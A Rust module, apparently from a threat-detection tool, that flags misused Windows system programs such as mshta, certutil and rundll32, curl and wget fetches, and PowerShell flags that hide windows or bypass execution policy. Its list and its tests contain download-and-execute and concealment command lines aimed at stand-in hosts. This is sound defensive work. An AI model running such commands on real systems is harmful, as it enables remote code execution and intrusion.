//! Command lines: the program they start, the flags that conceal, the system programs that are misused.

use crate::names::base;
use crate::scan;
use strongroom_model::Observable;

/// Programs of the system that fetch or run what a URL names.
const PROXIES: [&str; 12] = [
    "mshta",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "rundll32",
    "msiexec",
    "wscript",
    "cscript",
    "installutil",
    "hh",
    "cmstp",
    "msbuild",
];

/// Programs that fetch what a URL names and do nothing else.
const FETCHERS: [&str; 2] = ["curl", "wget"];

/// Returns the URLs that `curl` and `wget` are given in a shell's command line, in order.
pub(super) fn fetched(command: &str) -> Vec<Observable> {
    let parts = command.split([';', '&', '|', '\n', '(', ')', '`']);
    let fetches =
        parts.filter(|part| FETCHERS.contains(&program(part.trim_start_matches(['"', '\''])).as_str()));
    fetches.flat_map(scan::urls).map(|seen| seen.observable).collect()
}

/// Returns the program's name in lower case, without its folder and `.exe`.
pub(super) fn program(command: &str) -> String {
    let command = command.trim_start();
    let first = match command.strip_prefix('"') {
        Some(quoted) => quoted.split('"').next().unwrap_or(""),
        None => command.split_whitespace().next().unwrap_or(""),
    };
    let name = base(first).to_ascii_lowercase();
    name.strip_suffix(".exe")
        .or_else(|| name.strip_suffix(".com"))
        .unwrap_or(&name)
        .to_owned()
}

/// Returns the misused system program and the URL that it is given, wherever in the line they stand.
pub(super) fn proxy(command: &str) -> Option<(&'static str, Observable)> {
    let url = scan::urls(command).next()?.observable;
    let words = command.split([' ', '"', '\'', '&', '|', '(', ')']).map(program);
    let found = words
        .into_iter()
        .find_map(|word| PROXIES.iter().find(|proxy| **proxy == word))?;
    Some((found, url))
}

/// Returns whether a PowerShell command line hides its window.
pub(super) fn hides_window(command: &str) -> bool {
    let lower = unmarked(command);
    let words: Vec<&str> = lower.split_whitespace().collect();
    words.windows(2).any(|pair| match pair {
        [flag, value] => {
            is_flag(flag, "windowstyle", 1)
                && (*value == "hidden" || *value == "1" || value.starts_with("hid"))
        }
        _ => false,
    })
}

/// Returns whether a PowerShell command line sets the execution policy aside.
pub(super) fn bypasses(command: &str) -> bool {
    let lower = unmarked(command);
    let words: Vec<&str> = lower.split_whitespace().collect();
    words.windows(2).any(|pair| match pair {
        [flag, value] => {
            (is_flag(flag, "executionpolicy", 2) || *flag == "-ep")
                && (value.starts_with("byp") || value.starts_with("unr"))
        }
        _ => false,
    })
}

/// Returns the line in lower case, with blanks for the marks that part or disguise its words.
fn unmarked(command: &str) -> String {
    command
        .to_ascii_lowercase()
        .replace([':', '=', '\'', '"', '^', '`'], " ")
}

/// PowerShell takes any beginning of a parameter's name that tells it from the others.
fn is_flag(word: &str, name: &str, least: usize) -> bool {
    let Some(flag) = word.strip_prefix(['-', '/', '\u{2013}', '\u{2014}']) else {
        return false;
    };
    flag.len() >= least && name.starts_with(flag)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn concealing_flags_are_read_in_every_shortened_form() {
        assert!(hides_window("powershell -w hidden -c x"));
        assert!(hides_window("powershell.exe -WindowStyle:Hidden"));
        assert!(!hides_window("powershell -File hidden.ps1"));
        assert!(bypasses("powershell -ExecutionPolicy Bypass -f x"));
        assert!(bypasses("pwsh -ep bypass"));
        assert!(!bypasses("powershell -ExecutionPolicy RemoteSigned"));
    }

    #[test]
    fn what_a_shell_fetches_is_found_in_each_part_of_its_line() {
        let urls = fetched(
            "curl -o /tmp/a https://a.example/x && chmod +x /tmp/a; sh -c \"wget http://b.example/y\"",
        );
        assert_eq!(urls.first().map(Observable::value), Some("https://a.example/x"));
        assert!(fetched("echo https://a.example/x").is_empty());
    }

    #[test]
    fn misused_programs_are_found_with_their_url() {
        let (name, url) =
            proxy("cmd /c \"C:\\Windows\\System32\\mshta.exe\" https://a.example/x.hta").unwrap();
        assert_eq!((name, url.value()), ("mshta", "https://a.example/x.hta"));
        assert!(proxy("explorer https://a.example/").is_none());
        assert_eq!(program("\"C:\\a b\\X.EXE\" /q"), "x");
    }
}
